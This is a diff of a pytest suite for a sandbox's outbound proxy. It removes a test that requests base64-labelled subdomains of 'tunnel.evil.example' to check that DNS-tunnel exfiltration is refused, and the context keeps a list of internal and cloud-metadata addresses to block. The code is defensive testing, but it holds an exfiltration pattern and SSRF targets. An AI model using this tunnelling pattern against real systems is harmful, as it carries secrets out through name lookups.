@@ -213,12 +213,6 @@ def test_another_host_is_refused_and_not_even_resolved(
     assert sandbox.proxy.refused() == ()
 
 
-def test_names_carry_nothing_out(sandbox: Sandboxed, world: World) -> None:
-    for label in ("c2VjcmV0", "MDEyMzQ1"):
-        assert sandbox.get(f"http://{label}.tunnel.evil.example/")[0] == 403
-    assert world.asked == []
-
-
 @pytest.mark.parametrize(
     "address", ["10.0.0.5", "127.0.0.1", "169.254.169.254", "::1", "::ffff:169.254.169.254", "192.168.7.7"]
 )
